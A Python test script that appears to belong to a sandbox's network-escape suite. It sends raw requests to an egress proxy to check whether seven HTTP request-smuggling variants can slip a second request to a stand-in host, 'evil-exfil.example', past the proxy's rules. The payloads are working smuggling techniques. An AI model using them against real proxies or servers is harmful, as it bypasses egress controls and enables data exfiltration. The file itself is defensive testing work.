#!/usr/bin/python3
"""Run inside a run by test/escape/network.sh: raw requests to the run's egress proxy
($http_proxy) that try to get a second request past its rule check.

  smuggle.py HOST:PORT CASE...   HOST:PORT is an allowed server (the vhost stand-in).

Each case is one connection: the bytes are sent, the write side is shut (so the proxy
ends the connection once it has relayed what it will), and everything the proxy answers
is read until it closes. Prints "CASE: <first line of the answer>"."""
import os
import socket
import sys
from urllib.parse import urlsplit

EVIL = "evil-exfil.example"


def cases(a):
    smug = "GET /smuggled-%s HTTP/1.1\r\nHost: " + EVIL + "\r\n\r\n"
    return {
        # A second request after an allowed one, with a Host: no rule names.
        "pipelined": "GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\n" % (a, a) +
                     "GET /second HTTP/1.1\r\nHost: " + EVIL + "\r\n\r\n",
        # Content-Length and Transfer-Encoding both: which one frames the body?
        "cl-te": "POST http://%s/cl-te HTTP/1.1\r\nContent-Length: 5\r\n"
                 "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % a + smug % "clte",
        # Two Content-Lengths that disagree.
        "dup-cl": "POST http://%s/dup-cl HTTP/1.1\r\nContent-Length: 0\r\n"
                  "Content-Length: 50\r\n\r\n" % a + smug % "dupcl",
        # A transfer coding other than chunked (the server may not know where it ends).
        "te-gzip": "POST http://%s/te-gzip HTTP/1.1\r\nTransfer-Encoding: gzip, chunked"
                   "\r\n\r\n0\r\n\r\n" % a + smug % "tegzip",
        # A folded header line hiding a Transfer-Encoding.
        "obs-fold": "POST http://%s/obs-fold HTTP/1.1\r\nX-A: b\r\n Transfer-Encoding: "
                    "chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" % a + smug % "fold",
        # A chunk not followed by CRLF: a lax server reads on, into the next request.
        "bad-chunk": "POST http://%s/bad-chunk HTTP/1.1\r\nTransfer-Encoding: chunked"
                     "\r\n\r\n5\r\nhelloXX\r\n0\r\n\r\n" % a + smug % "chunk",
        # Transfer-Encoding in an HTTP/1.0 request: framing RFC 9112 calls faulty.
        "te-http10": "POST http://%s/te-http10 HTTP/1.0\r\nTransfer-Encoding: chunked"
                     "\r\n\r\n0\r\n\r\n" % a + smug % "http10",
    }


def main():
    target = sys.argv[1]
    proxy = urlsplit(os.environ["http_proxy"])
    all_cases = cases(target)
    for name in sys.argv[2:]:
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
        s.sendall(all_cases[name].encode())
        s.shutdown(socket.SHUT_WR)
        got = b""
        try:
            while True:
                b = s.recv(65536)
                if not b:
                    break
                got += b
        except OSError as e:
            got += ("(%s)" % e).encode()
        s.close()
        first = got.split(b"\r\n", 1)[0].decode("latin-1") if got else "(nothing)"
        print("%s: %s" % (name, first))
        sys.stdout.flush()


if __name__ == "__main__":
    main()
